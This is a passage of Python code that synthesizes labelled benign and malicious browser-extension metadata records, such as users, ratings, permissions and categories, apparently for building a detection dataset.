    for _ in range(int(rng.choice([4, 4, 4, 3, 2, 0]))):
        typical = {n for n, p, r in zip(catalog.names, bprobs, rng.random(len(bprobs))) if r < p}
        kept = {p for p in perms if rng.random() < prof.related_overlap}
        related.append(frozenset(typical | kept))

    cat_idx = int(rng.choice(len(CATEGORIES), p=np.asarray(prof.category_probs) / sum(prof.category_probs)))
    return ExtensionRecord(
        pkg=pkg, label=label, last_update=dt.date(year, month, day),
        users=_lognormal_int(rng, prof.users), rating_count=rating_count, rating_avg=round(rating_avg, 2),
        description=description, summary=summary, reviews=reviews,
        same_developer_count=_lognormal_int(rng, prof.same_developer, lo=1),
        related_permission_sets=tuple(related), category=CATEGORIES[cat_idx],
    )


def _render_broken(rng) -> str:
    text = BROKEN_STATEMENT
    for ph in ("$A", "$B", "$C"):
        text = text.replace(ph, _pick(rng, IDENTIFIERS) + ph[1].lower())
    return text


def synthesize(config: SynthConfig, seed: int) -> Corpus:
    records = []
    for year in config.years:
        for label, n in (("benign", config.benign_per_year), ("malicious", config.malicious_per_year)):
            records.extend(synthesize_record(config, seed, year, label, i) for i in range(n))
    records.sort(key=lambda r: (r.last_update, r.id))
    return Corpus(tuple(records), "synthetic", seed)
